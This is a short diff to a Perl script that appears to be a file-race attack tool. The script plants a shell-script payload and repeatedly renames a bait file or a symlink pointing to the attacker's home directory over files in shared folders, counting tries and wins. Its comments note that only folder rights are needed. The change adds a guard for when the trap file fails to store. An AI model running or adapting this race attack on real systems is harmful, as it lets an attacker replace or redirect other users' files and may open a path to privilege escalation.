@@ -33,8 +33,8 @@ my $payload = "#!/bin/sh\n# these bytes are the racer's\n";
 my $bait       = ".racer-$$";
 my $kept_limit = 128;
 # What a link of his leads to: outside of the folders, in his own.
-my $trap = (getpwuid $>)[7] . '/racer-payload';
-store($trap);
+my $trap     = (getpwuid $>)[7] . '/racer-payload';
+my $has_trap = store($trap);
 
 my ($looks, $tries, $wins) = (0, 0, 0);
 my %kept = ();
@@ -77,6 +77,7 @@ sub attack_file {
     # Over it with a file of his own, then with a link: neither needs a right to the file, only to the folder.
     ++$tries;
     rename "$folder/$bait", $path if store("$folder/$bait");
+    return unless $has_trap;
     ++$tries;
     rename "$folder/$bait", $path if symlink $trap, "$folder/$bait";
 }
